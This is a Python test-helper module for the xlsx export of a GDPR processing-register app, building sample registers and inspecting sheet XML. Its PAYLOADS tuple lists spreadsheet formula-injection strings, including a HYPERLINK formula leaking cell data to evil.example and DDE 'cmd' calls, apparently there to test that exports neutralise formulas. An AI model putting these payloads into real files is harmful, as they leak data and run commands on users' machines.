"""Registers, reviewer edits and raw-XML checks shared by the xlsx tests."""

from __future__ import annotations

import dataclasses
import datetime as dt
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl

from ropa_desktop.domain.enums import (
    EndOfLifeAction,
    LegalBasis,
    RetentionUnit,
    Status,
    TransferSafeguard,
    TriggerEvent,
)
from ropa_desktop.domain.records import (
    DataUseRec,
    OrganisationRec,
    PurposeRec,
    RecipientUseRec,
    TransferRec,
)
from ropa_desktop.importers.sample import SAMPLE_PATH
from ropa_desktop.services.activities import save_activity
from ropa_desktop.services.organisation import save_organisation
from ropa_desktop.services.processors import save_processor
from ropa_desktop.services.register import Register
from ropa_desktop.services.retention import save_rule
from tests.factories import complete_activity, processor, retention_for

# Text a spreadsheet would evaluate if it were written as a formula.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "#N/A",
    "=",
)

ORG = OrganisationRec(
    key="acme", name="Acme SAS", address="1 rue de la Paix, 75002 Paris",
    contact_email="privacy@acme.example", dpo_name="D. Poe", dpo_email="dpo@acme.example",
)  # fmt: skip


def rich_register(register: Register) -> dict[str, Any]:
    """A small register with every kind of detail the workbook shows."""
    save_organisation(register, record=ORG)
    save_processor(register, record=processor(dpa_signed_on=dt.date(2024, 5, 1)))
    crm = complete_activity(
        owner_department="Sales",
        purposes=(
            PurposeRec("Manage customer contracts", LegalBasis.CONTRACT),
            PurposeRec(
                "Send the newsletter", LegalBasis.CONSENT, consent_withdrawal="Unsubscribe link"
            ),
        ),
        data_categories=(DataUseRec("identity"), DataUseRec("health", note="Allergies for events")),
        recipients=(RecipientUseRec("internal-departments", "Sales and support"),),
        processors=("proc-mail",),
        transfers=(TransferRec("United States", "Mailer Inc.", TransferSafeguard.SCC, "TIA-7"),),
        last_reviewed_on=dt.date(2025, 1, 15),
    )
    hr = complete_activity(
        key="act-hr", reference="PA-02", name="Recruitment", status=Status.IN_REVIEW,
        description="Selecting candidates.\nSecond line of the description.",
        purposes=(PurposeRec("Assess applications", LegalBasis.LEGITIMATE_INTERESTS, lia_reference="LIA-3"),),
        subject_categories=("job-applicants",),
    )  # fmt: skip
    saved = [save_activity(register, record=rec) for rec in (crm, hr)]
    rules = [save_rule(register, record=retention_for("act-crm"))]
    rule = dataclasses.replace(retention_for("act-hr", key="ret-2"), open_ended_term="")
    rule = dataclasses.replace(
        rule, duration_value=2, duration_unit=RetentionUnit.YEARS, trigger=TriggerEvent.LAST_CONTACT,
        end_of_life_action=EndOfLifeAction.DELETE,
    )  # fmt: skip
    rules.append(save_rule(register, record=rule))
    return {"activities": saved, "rules": rules}


def has_sample() -> bool:
    return SAMPLE_PATH.exists()


def edit(path: Path, change: Callable[[openpyxl.Workbook], None], out: Path | None = None) -> Path:
    """Open the workbook as a reviewer's spreadsheet program would, change it, save it."""
    wb = openpyxl.load_workbook(path)
    change(wb)
    target = out or path.with_name(f"edited-{path.name}")
    wb.save(target)
    return target


def column(ws: Any, header: str) -> int:
    """1-based index of the column with this header."""
    for cell in ws[1]:
        if cell.value == header:
            return int(cell.column)
    raise KeyError(header)


def row_of(ws: Any, header: str, value: str) -> int:
    col = column(ws, header)
    for row in range(2, ws.max_row + 1):
        if ws.cell(row, col).value == value:
            return row
    raise KeyError(value)


def set_cell(ws: Any, row: int, header: str, value: Any) -> None:
    cell = ws.cell(row, column(ws, header))
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # typed as text, as Excel does with a leading apostrophe


def sheet_xml(path: Path, title: str) -> str:
    """The raw XML of one sheet, found by its title."""
    with zipfile.ZipFile(path) as archive:
        book = archive.read("xl/workbook.xml").decode()
        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
        escaped = title.replace("&", "&amp;")
        rid = re.search(rf'<sheet [^>]*name="{re.escape(escaped)}"[^>]*r:id="([^"]+)"', book)
        assert rid, title
        target = re.search(rf'Id="{rid[1]}"[^>]*Target="/?(?:xl/)?([^"]+)"', rels) or re.search(
            rf'Target="/?(?:xl/)?([^"]+)"[^>]*Id="{rid[1]}"', rels
        )
        assert target, rid[1]
        return archive.read(f"xl/{target[1]}").decode()


def xml_cells(xml: str) -> list[tuple[str, str, str]]:
    """(reference, type attribute, inner XML) of every cell of a sheet."""
    out = []
    for match in re.finditer(r"<c ([^>]*?)(?:/>|>(.*?)</c>)", xml, re.S):
        attrs, inner = match[1], match[2] or ""
        ref = re.search(r'r="([A-Z]+\d+)"', attrs)
        kind = re.search(r'\bt="([^"]+)"', attrs)
        out.append((ref[1] if ref else "", kind[1] if kind else "n", inner))
    return out


def exported_rich_register(folder: Path) -> Path:
    """A folder holding the rich register (register.sqlite) and its export (register.xlsx)."""
    from ropa_desktop.exporters.xlsx import export_xlsx
    from ropa_desktop.services.register import open_register

    register = open_register(folder / "register.sqlite", actor="tester")
    try:
        rich_register(register)
        export_xlsx(register, folder / "register.xlsx")
    finally:
        register.close()
    return folder
